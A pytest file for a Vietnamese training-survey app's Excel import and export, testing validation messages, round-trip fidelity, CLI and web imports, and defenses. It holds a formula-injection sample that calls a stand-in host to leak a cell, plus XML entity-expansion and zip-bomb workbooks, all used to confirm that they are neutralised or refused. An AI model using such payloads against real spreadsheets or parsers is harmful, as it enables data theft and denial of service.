"""The interchange workbook: every malformed file is refused with a precise message and nothing
stored; export then import is lossless; the CLI prints the new training's id."""
import io
import json

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from app.extensions import db as _db
from app.models import Consent, ExportLog, Person, Role
from surveys import services
from surveys.models import Answer, Instrument, Participant, Phase, Question, Response, Training
from surveys.services.workbook import IDENTITY_KEYS, WorkbookError

COUNTED = (Training, Instrument, Question, Participant, Response, Answer, Person, Consent)


def counts():
    return {m.__name__: _db.session.scalar(sa.select(sa.func.count()).select_from(m)) for m in COUNTED}


def sheets(**override) -> dict[str, list[list]]:
    """A valid workbook as rows per sheet; tests change one thing."""
    book = {
        "training": [["title", "Tập huấn phòng chống lừa đảo trực tuyến"], ["topic", "Lừa đảo trực tuyến"],
                     ["start_date", "2025-10-05"], ["end_date", "2025-10-05"], ["venue", "Nhà văn hóa thôn Nà Nguộc"]],
        "questions": [["no", "text", "type", "options", "correct", "points"],
                      [1, "Có nên cho người lạ mã OTP không?", "truefalse", "Đúng | Sai", 2, 1],
                      [2, "Số nào gọi công an?", "single", "113 | 114 | 115 | 116 | Không biết", 1, 1],
                      [3, "Dấu hiệu lừa đảo?", "multi", "Đòi chuyển tiền | Link lạ | Hỏi thăm", "1,2", 2],
                      [4, "Tôi tự tin nhận ra lừa đảo.", "likert", "", "", 1]],
        "participants": [["code", "full_name", "sex", "birth_year", "ethnicity", "village", "consent"],
                         ["NN-01", "Hà Thị Thảo", "F", 1990, "Tày", "Nà Nguộc", "yes"],
                         ["NN-02", "Ma Văn Tuấn", "M", 1987, "Tày", "Nà Nguộc", "yes"],
                         ["NN-03", "Sùng Thị Pà", "F", 2003, "Mông", "", "yes"]],
        "pre": [["code", "Q1", "Q2", "Q3", "Q4"], ["NN-01", 2, 5, "1", 3], ["NN-02", 1, 1, "1,2", 2],
                ["NN-03", None, 2, None, None]],
        "post": [["code", "Q1", "Q2", "Q3", "Q4"], ["NN-01", 2, 1, "1,2", 5], ["NN-02", 2, 1, "1,2", 4]],
    }
    book.update(override)
    return book


def xlsx(book: dict) -> bytes:
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in book.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture
def trainer(db, units, create_user, create_topic):
    create_topic("Lừa đảo trực tuyến")
    return create_user(Role.trainer, "02086")


def test_valid_workbook_creates_the_training(db, trainer, units):
    training = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])
    db.session.commit()
    assert training.title == "Tập huấn phòng chống lừa đảo trực tuyến" and training.venue.startswith("Nhà văn hóa")
    assert [it.kind.value for it in training.version.items] == ["truefalse", "single", "multi", "likert"]
    assert training.version.items[1].has_dont_know and training.version.items[1].options == ["113", "114", "115", "116"]
    scores = dict(db.session.execute(sa.select(Person.code, Response.score).join(Response)
                                     .where(Response.phase == Phase.pre)).all())
    assert scores == {"NN-01": 1, "NN-02": 3, "NN-03": 0}
    dont_know = db.session.scalar(sa.select(sa.func.count()).select_from(Answer).where(Answer.is_dont_know))
    assert dont_know == 1
    sung = db.session.scalar(sa.select(Person).where(Person.code == "NN-03"))
    assert sung.unit.code == "02086" and sung.ethnicity_name == "Mông" and sung.has_consent("caunoi")


def refused(data: bytes, trainer, unit, training=None) -> list[str]:
    before = counts()
    with pytest.raises(WorkbookError) as exc:
        services.import_workbook(data, user=trainer, unit=unit, training=training)
    _db.session.rollback()
    assert counts() == before, "nothing may be stored"
    return [str(p) for p in exc.value.problems]


def without(book, sheet):
    return {k: v for k, v in book.items() if k != sheet}


def with_cell(sheet, row, col, value, **kw):
    book = sheets(**kw)
    rows = [list(r) for r in book[sheet]]
    rows[row][col] = value
    book[sheet] = rows
    return book


@pytest.mark.parametrize("data, expected", [
    (xlsx(without(sheets(), "post")), ["Trang “Sau tập huấn”: thiếu trang này (trong tệp cũ trang có tên “post”)."]),
    (xlsx(with_cell("pre", 2, 0, "NN-99")), ["Trang “pre”, dòng 3, cột code (A): mã “NN-99” không có trong trang “participants”."]),
    (xlsx(with_cell("pre", 1, 3, "7")), ["Trang “pre”, dòng 2, cột Q3 (D): Lựa chọn 7 không có: câu này chỉ có 3 lựa chọn (1 đến 3)."]),
    (xlsx(with_cell("pre", 1, 2, 7)), ["Trang “pre”, dòng 2, cột Q2 (C): Lựa chọn 7 không có: câu này chỉ có 5 lựa chọn (1 đến 5)."]),
    (xlsx(with_cell("participants", 2, 3, "năm tám bảy")), ["Trang “participants”, dòng 3, cột birth_year (D): “năm tám bảy” không phải là số."]),
    (xlsx(with_cell("questions", 3, 5, "hai")), ["Trang “questions”, dòng 4, cột points (F): “hai” không phải là số."]),
    (xlsx(with_cell("pre", 1, 1, "đúng")), ["Trang “pre”, dòng 2, cột Q1 (B): “đúng” không phải số thứ tự lựa chọn; hãy ghi số, ví dụ 2 hoặc 1,3."]),
    (xlsx(sheets(participants=sheets()["participants"] + [["NN-01", "Hà Thị Thảo", "F", 1990, "Tày", "", "yes"]])),
     ["Trang “participants”, dòng 5, cột code (A): mã “NN-01” trùng với dòng 2."]),
    (xlsx(with_cell("post", 2, 0, "NN-01")), ["Trang “post”, dòng 3, cột code (A): mã “NN-01” trùng với dòng 2."]),
    (b"", ["Tệp rỗng."]),
    (b"code,full_name\nNN-01,Ha Thi Thao\n", ["Tệp không phải là tệp Excel .xlsx hợp lệ."]),
    (b"PK\x03\x04 broken zip", ["Tệp không phải là tệp Excel .xlsx hợp lệ."]),
    (xlsx(with_cell("training", 1, 1, "Chủ đề lạ")), ["Trang “training”, dòng 2, cột topic (B): chưa có chủ đề “Chủ đề lạ” trong danh sách chủ đề."]),
    (xlsx(with_cell("training", 2, 1, "5/10/2025")), ["Trang “training”, dòng 3, cột start_date (B): ngày phải có dạng YYYY-MM-DD, ví dụ 2025-09-20."]),
    (xlsx(with_cell("questions", 1, 4, 3)), ["Trang “questions”, dòng 2, cột correct (E): Đáp án 3 không có: câu hỏi chỉ có 2 lựa chọn."]),
    (xlsx(with_cell("questions", 2, 2, "chọn một")), ["Trang “questions”, dòng 3, cột type (C): Loại câu hỏi “chọn một” không hợp lệ; dùng single, multi, truefalse, likert hoặc text."]),
    (xlsx(with_cell("participants", 1, 5, "Bản Lạ")), ["Trang “participants”, dòng 2, cột village (F): không có thôn, bản “Bản Lạ” trong Xã Chợ Mới."]),
    (xlsx(with_cell("participants", 1, 6, "no")), ["Trang “pre”, dòng 2, cột code (A): người có mã “NN-01” chưa đồng ý cho lưu thông tin (cột consent ghi no).",
                                                   "Trang “post”, dòng 2, cột code (A): người có mã “NN-01” chưa đồng ý cho lưu thông tin (cột consent ghi no)."]),
    (xlsx(with_cell("participants", 1, 1, "Hà Thị Thảo 😀")),
     ["Trang “participants”, dòng 2, cột full_name (B): có ký tự không in được trên văn bản: “😀” (biểu tượng cảm "
      "xúc, ký hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
    (xlsx(with_cell("questions", 2, 3, "113 | 114 ☎️ | 115 | 116 | Không biết")),
     ["Trang “questions”, dòng 3, cột options (D): có ký tự không in được trên văn bản: “☎” U+FE0F (biểu tượng "
      "cảm xúc, ký hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
    (xlsx(with_cell("training", 4, 1, "Nhà văn hóa 🏠")),
     ["Trang “training”, dòng 5, cột venue (B): có ký tự không in được trên văn bản: “🏠” (biểu tượng cảm xúc, ký "
      "hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
], ids=["missing sheet", "unknown code", "option 7 of 3 (text cell)", "option 7 of 5 (number cell)",
        "text in birth_year", "text in points", "text in an answer", "duplicate participant", "duplicate answer row",
        "empty file", "csv not xlsx", "broken zip", "unknown topic", "bad date", "answer key out of range",
        "unknown type", "unknown village", "no consent", "emoji in a name", "emoji in an option",
        "emoji in the venue"])
def test_malformed_workbook_is_refused_with_a_precise_message(db, trainer, units, data, expected):
    assert refused(data, trainer, units["02086"]) == expected


def test_every_problem_is_listed_at_once(db, trainer, units):
    book = with_cell("pre", 1, 3, "9")
    book["participants"][2][3] = "abc"
    book["post"][1][0] = "NN-77"
    problems = refused(xlsx(book), trainer, units["02086"])
    assert len(problems) == 3
    assert any("dòng 2, cột Q3 (D)" in p for p in problems) and any("birth_year" in p for p in problems)
    assert any("NN-77" in p for p in problems)


def test_duplicate_person_by_name_birth_year_and_village(db, trainer, units, create_person):
    create_person("na_nguoc", full_name="Hà Thị Thảo", birth_year=1990, code="CM-001")
    book = sheets()
    book["participants"] = book["participants"] + [["NN-04", "hà thị thảo", "F", 1990, "Tày", "Nà Nguộc", "yes"]]
    problems = refused(xlsx(book), trainer, units["02086"])
    assert problems == ["Trang “participants”, dòng 5, cột code (A): trùng người với dòng 2 (cùng họ tên, năm sinh, nơi ở)."]


def test_existing_people_are_matched_not_duplicated(db, trainer, units, create_person):
    by_code = create_person("na_nguoc", full_name="Ma Văn Tuấn", birth_year=1987, code="NN-02")
    by_name = create_person("na_nguoc", full_name="Hà Thị Thảo", birth_year=1990, code="CM-001")
    people_before = db.session.scalar(sa.select(sa.func.count(Person.id)))
    training = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])
    db.session.commit()
    roster = {p.person_id for p in training.participants}
    assert {by_code.id, by_name.id} <= roster and len(roster) == 3
    assert db.session.scalar(sa.select(sa.func.count(Person.id))) == people_before + 1


def test_person_of_another_province_is_not_reachable_by_code(db, trainer, units, create_person):
    from app import services as core
    from app.models import Unit, UnitLevel

    far = Unit(code="08001", name="Xã Xa", level=UnitLevel.commune, parent=units["08"], path="/VN/08/08001/")
    db.session.add(far)
    db.session.flush()
    core.save_person(None, full_name="Người ở xa", unit=far, code="NN-02")
    db.session.commit()
    problems = refused(xlsx(sheets()), trainer, units["02086"])
    assert problems == ["Trang “participants”, dòng 3, cột code (A): mã “NN-02” đã dùng cho một người ngoài phạm vi của bạn."]


# The sheets of an export, by the names a Vietnamese reader sees (older files: the keys).
VI_SHEETS = {"training": "Lớp tập huấn", "questions": "Câu hỏi", "participants": "Người tham gia",
             "pre": "Trước tập huấn", "post": "Sau tập huấn"}


def table(data: bytes, names: dict[str, str] = VI_SHEETS) -> dict[str, list[tuple]]:
    wb = load_workbook(io.BytesIO(data))
    return {key: [tuple("" if v is None else v for v in row) for row in wb[name].iter_rows(values_only=True)]
            for key, name in names.items()}


def test_exports_name_their_sheets_in_vietnamese_and_older_english_names_still_import(db, trainer, units):
    first = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])  # English names
    db.session.commit()
    exported = services.export_workbook(first, user=trainer)
    assert load_workbook(io.BytesIO(exported)).sheetnames == [*VI_SHEETS.values(), "Hướng dẫn"]
    template = load_workbook(io.BytesIO(services.blank_template())).sheetnames
    assert template[:5] == list(VI_SHEETS.values())
    # the Vietnamese export imports as a new training, and so does one typed without tones or in capitals
    assert counts_of(services.import_workbook(exported, user=trainer, unit=units["02086"])) == (3, 3, 2)
    book = load_workbook(io.BytesIO(exported))
    for sheet, name in zip(book.worksheets, ("LOP TAP HUAN", "cau hoi", "Nguoi tham gia", "truoc tap huan", "Sau tap huan")):
        sheet.title = name
    out = io.BytesIO()
    book.save(out)
    assert counts_of(services.import_workbook(out.getvalue(), user=trainer, unit=units["02086"])) == (3, 3, 2)
    # a problem names the sheet as the file does
    book = load_workbook(io.BytesIO(exported))
    book["Trước tập huấn"]["A2"] = "NN-99"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(WorkbookError) as refused:
        services.import_workbook(out.getvalue(), user=trainer, unit=units["02086"])
    assert str(refused.value.problems[0]) == ("Trang “Trước tập huấn”, dòng 2, cột code (A): mã “NN-99” không có "
                                              "trong trang “Người tham gia”.")


def counts_of(training) -> tuple[int, int, int]:
    from surveys.results import training_counts

    c = training_counts([training.id])[training.id]
    return c["people"], c["pre"], c["post"]


def test_export_then_import_is_lossless(db, trainer, units):
    first = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])
    db.session.commit()
    exported = services.export_workbook(first, user=trainer)
    second = services.import_workbook(exported, user=trainer, unit=units["02086"])
    db.session.commit()
    assert second.id != first.id
    again = services.export_workbook(second, user=trainer)
    # the same workbook, but for its identity rows: each names its own training
    strip = lambda t: {**t, "training": [r for r in t["training"] if r[0] not in IDENTITY_KEYS]}  # noqa: E731
    assert strip(table(again)) == strip(table(exported))
    assert dict(table(again)["training"])["training_id"] == str(second.id)
    # and the export says what the original said
    original = table(xlsx(sheets()), {key: key for key in VI_SHEETS})  # typed with the older English names
    assert table(exported)["questions"] == original["questions"][:4] + [
        (4, "Tôi tự tin nhận ra lừa đảo.", "likert",
         "Hoàn toàn không đồng ý | Không đồng ý | Phân vân | Đồng ý | Hoàn toàn đồng ý", "", 1)]
    typed = [tuple(int(v) if isinstance(v, str) and v.isdigit() else v for v in row) for row in original["pre"][1:]]
    assert sorted(table(exported)["pre"][1:]) == sorted(typed)  # "1" typed as text comes back as the number 1
    logged = db.session.execute(sa.select(ExportLog.kind, ExportLog.object_id, ExportLog.rows, ExportLog.has_names)).all()
    assert logged == [("training_xlsx", first.id, 3, True), ("training_xlsx", second.id, 3, True)]


def test_importing_the_same_answers_twice_changes_nothing(db, trainer, units):
    training = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])
    db.session.commit()
    before = counts()
    services.import_workbook(services.export_workbook(training), user=trainer, training=training)
    db.session.commit()
    assert counts() == before


def test_different_answers_for_a_stored_response_are_refused(db, trainer, units):
    training = services.import_workbook(xlsx(sheets()), user=trainer, unit=units["02086"])
    db.session.commit()
    book = table(services.export_workbook(training))
    rows = [list(r) for r in book["pre"]]
    rows[1][1] = 1 if rows[1][1] == 2 else 2
    book["pre"] = rows
    problems = refused(xlsx({k: [list(r) for r in v] for k, v in book.items()}), trainer, None, training=training)
    # it says which answer differs (issue #15)
    assert problems == [f"Trang “pre”, dòng 2, cột code (A): người có mã “{rows[1][0]}” đã có câu trả lời khác cho "
                        f"đợt này (Q1: đã lưu “{3 - rows[1][1]}”, trong tệp “{rows[1][1]}”)."]


def test_template_lists_roster_codes_and_imports_as_empty(db, trainer, units, create_training):
    training = create_training(people=3)
    book = table(services.export_workbook(training, with_answers=False))
    assert [r[0] for r in book["pre"][1:]] == sorted(p.person.code for p in training.participants)
    assert book["pre"][0] == ("code", "Q1", "Q2", "Q3", "Q4", "Q5", "Q6")
    before = counts()
    services.import_workbook(services.export_workbook(training, with_answers=False), user=trainer, training=training)
    assert counts()["Response"] == before["Response"] == 0


def test_cli_import_prints_the_training_id_last(db, runner, trainer, units, tmp_path):
    path = tmp_path / "lop.xlsx"
    path.write_bytes(xlsx(sheets()))
    result = runner.invoke(args=["surveys", "import-workbook", str(path), "--unit", "02086",
                                 "--trainer", trainer.username])
    assert result.exit_code == 0, result.output
    last = json.loads(result.output.strip().splitlines()[-1])
    training = db.session.get(Training, last["training_id"])
    assert training is not None and training.unit.code == "02086" and len(training.participants) == 3


def test_cli_import_lists_every_problem_and_stores_nothing(db, runner, trainer, units, tmp_path):
    book = with_cell("pre", 1, 3, "9")
    book["participants"][2][3] = "abc"
    path = tmp_path / "lop.xlsx"
    path.write_bytes(xlsx(book))
    before = counts()
    result = runner.invoke(args=["surveys", "import-workbook", str(path), "--unit", "02086",
                                 "--trainer", trainer.username])
    assert result.exit_code != 0
    assert "Trang “pre”, dòng 2, cột Q3 (D)" in result.output and "birth_year" in result.output
    assert "2 lỗi" in result.output and counts() == before


@pytest.mark.parametrize("args, message", [
    (["--unit", "99999", "--trainer", "{trainer}"], "Không có đơn vị hành chính mã"),
    (["--unit", "08", "--trainer", "{trainer}"], "ngoài phạm vi của bạn"),  # a province: allowed, not hers
    (["--unit", "VN", "--trainer", "{trainer}"], "một tỉnh, thành phố, một xã, phường hoặc một thôn"),
    (["--unit", "02086", "--trainer", "nobody"], "Không có người dùng"),
])
def test_cli_import_refuses_bad_options(db, runner, trainer, units, tmp_path, args, message):
    path = tmp_path / "lop.xlsx"
    path.write_bytes(xlsx(sheets()))
    args = [a.format(trainer=trainer.username) for a in args]
    result = runner.invoke(args=["surveys", "import-workbook", str(path), *args])
    assert result.exit_code != 0 and message in result.output
    assert counts()["Training"] == 0


def test_cli_trainer_outside_the_unit_is_refused(db, runner, create_user, create_topic, units, tmp_path):
    create_topic("Lừa đảo trực tuyến")
    other = create_user(Role.trainer, "02020")
    path = tmp_path / "lop.xlsx"
    path.write_bytes(xlsx(sheets()))
    result = runner.invoke(args=["surveys", "import-workbook", str(path), "--unit", "02086",
                                 "--trainer", other.username])
    assert result.exit_code != 0 and "ngoài phạm vi" in result.output


def test_web_import_of_a_new_training(db, client, login_as, create_topic, units):
    create_topic("Lừa đảo trực tuyến")
    login_as(Role.commune, "02086")
    response = client.post("/surveys/trainings/import", content_type="multipart/form-data",
                           data={"unit_id": units["02086"].id, "file": (io.BytesIO(xlsx(sheets())), "lop.xlsx")})
    assert response.status_code == 302
    assert db.session.scalar(sa.select(sa.func.count(Training.id))) == 1


def test_web_import_shows_every_problem(db, client, login_as, create_topic, units):
    create_topic("Lừa đảo trực tuyến")
    login_as(Role.commune, "02086")
    response = client.post("/surveys/trainings/import", content_type="multipart/form-data",
                           data={"unit_id": units["02086"].id,
                                 "file": (io.BytesIO(xlsx(with_cell("pre", 1, 3, "7"))), "lop.xlsx")})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "Lựa chọn 7 không có" in page and "<td>Q3 (D)</td>" in page
    assert counts()["Training"] == 0


def test_roster_import_adds_people_all_or_nothing(db, client, login_as, create_training):
    training = create_training(people=0)
    login_as(Role.trainer, "02086")
    book = {"participants": sheets()["participants"]}
    url = f"/surveys/trainings/{training.id}/participants/import"
    response = client.post(url, content_type="multipart/form-data", data={"file": (io.BytesIO(xlsx(book)), "ds.xlsx")})
    assert response.status_code == 302
    assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 3
    bad = {"participants": sheets()["participants"] + [["NN-09", "", "X", "abc", "Tày", "", "yes"]]}
    response = client.post(url, content_type="multipart/form-data", data={"file": (io.BytesIO(xlsx(bad)), "ds.xlsx")})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "chưa có họ tên" in page and "giới tính ghi Nữ hoặc Nam (F hoặc M)" in page
    assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 3


def test_roster_import_reports_an_unprintable_name_as_a_row_error(db, client, login_as, create_training):
    """Issue #14: a name the PDF font cannot draw would vanish from the answer sheets; it is refused
    in the same table as the file's other errors, and no one is added."""
    training = create_training(people=0)
    login_as(Role.trainer, "02086")
    bad = {"participants": sheets()["participants"] + [["NN-09", "Lý Thị Mai 🌸", "F", 1995, "Tày", "", "yes"]]}
    response = client.post(f"/surveys/trainings/{training.id}/participants/import", content_type="multipart/form-data",
                           data={"file": (io.BytesIO(xlsx(bad)), "ds.xlsx")})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "<td>full_name (B)</td>" in page
    assert "có ký tự không in được trên văn bản: “🌸”" in page
    assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 0


ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"Bấm để xem")'


def test_formula_like_texts_are_exported_as_text(db, trainer, units, create_topic):
    """A name, venue or question text typed as a formula comes out as inert text, and imports back."""
    create_topic("+Lừa đảo")
    book = sheets(training=[["title", "@SUM(1+1)"], ["topic", "+Lừa đảo"], ["start_date", "2025-10-05"],
                            ["venue", "-2+3"]])
    book["participants"][1][1] = ATTACK
    book["questions"][1][1] = "+Có nên cho mã OTP?"
    from app.xlsx import append_row

    typed = Workbook()
    typed.remove(typed.active)
    for name, rows in book.items():
        ws = typed.create_sheet(name)
        for row in rows:
            append_row(ws, row)  # as typed in Excel with a leading quote
    data = io.BytesIO()
    typed.save(data)
    training = services.import_workbook(data.getvalue(), user=trainer, unit=units["02086"])
    db.session.commit()
    exported = services.export_workbook(training, user=trainer)
    wb = load_workbook(io.BytesIO(exported))
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (ATTACK, "@SUM(1+1)", "+Lừa đảo", "-2+3", "+Có nên cho mã OTP?"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert not [c for c in cells.values() if c.data_type == "f"]
    again = services.import_workbook(exported, user=trainer, unit=units["02086"])
    assert ATTACK in {p.person.full_name for p in again.participants}


def test_append_row_keeps_every_formula_start_as_text():
    from app.xlsx import append_row

    wb = Workbook()
    append_row(wb.active, ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "bình thường", 5, None])
    assert [c.data_type for c in wb.active[1]] == ["s"] * 7 + ["n", "n"]
    out = io.BytesIO()
    wb.save(out)
    assert [c.data_type for c in load_workbook(io.BytesIO(out.getvalue())).active[1]][:6] == ["s"] * 6


# --- hostile workbooks: refused with a clear message, fast and in little memory ---------------

def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The workbook ``data`` with one zip part replaced (or added)."""
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item))
        target.writestr(name, content)
    return out.getvalue()


SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData>'
         b'</worksheet>')
ENTITY = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
          b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
          b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
          b'<row r="1"><c r="A1" t="inlineStr"><is><t>title &b;</t></is></c></row></sheetData></worksheet>')


def hostile(kind: str) -> bytes:
    valid = xlsx(sheets())
    if kind == "rows":
        rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 100_001))
        return with_part(valid, "xl/worksheets/sheet1.xml", SHEET % rows)
    if kind == "cells":
        cells = b"".join(b'<c r="%s1"><v>1</v></c>' % get_letter(i).encode() for i in range(1, 16_001))
        rows = b"".join(b'<row r="%d">%s</row>' % (i, cells.replace(b'1"><v>', b'%d"><v>' % i)) for i in range(1, 21))
        return with_part(valid, "xl/worksheets/sheet1.xml", SHEET % rows)
    if kind == "unpacked":
        return with_part(valid, "xl/media/padding.bin", b"\0" * (11 * 1024 * 1024))
    if kind == "entity":
        return with_part(valid, "xl/worksheets/sheet1.xml", ENTITY)
    if kind == "entity-utf16":
        return with_part(valid, "xl/worksheets/sheet1.xml", ENTITY.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"))
    raise AssertionError(kind)


def get_letter(i: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(i)


@pytest.mark.parametrize("kind, message", [
    ("rows", "Một trang có quá 4100 dòng."),
    ("cells", "Tệp có quá 300000 ô dữ liệu."),
    ("unpacked", "Tệp quá lớn khi giải nén (hơn 10 MB)."),
    ("entity", "Tệp chứa khai báo DTD hoặc thực thể XML, không được nhận."),
    ("entity-utf16", "Tệp chứa khai báo DTD hoặc thực thể XML, không được nhận."),
])
def test_hostile_workbook_is_refused_in_little_memory(db, trainer, units, kind, message):
    """Refused with its reason, in little memory, nothing stored. How fast (before any parse) is
    measured by bench/workbook_bench.py as a ratio, not timed here."""
    import tracemalloc

    data = hostile(kind)
    assert len(data) < 1_000_000  # small uploads, far under the 20 MB limit
    before = counts()
    with pytest.raises(WorkbookError) as refused:
        services.import_workbook(data, user=trainer, unit=units["02086"])
    assert message in refused.value.message
    tracemalloc.start()  # measured apart: tracing slows every allocation
    with pytest.raises(WorkbookError):
        services.import_workbook(data, user=trainer, unit=units["02086"])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 50 * 1024 * 1024, peak
    db.session.rollback()
    assert counts() == before


def test_hostile_workbook_upload_answers_a_vietnamese_page(db, client, login_as, create_topic, units):
    login_as(Role.trainer, "02086")
    page = client.post("/surveys/trainings/import", content_type="multipart/form-data",
                       data={"unit_id": units["02086"].id, "file": (io.BytesIO(hostile("entity")), "lop.xlsx")})
    assert page.status_code in (200, 400)
    assert "Tệp chứa khai báo DTD hoặc thực thể XML" in page.get_data(as_text=True)
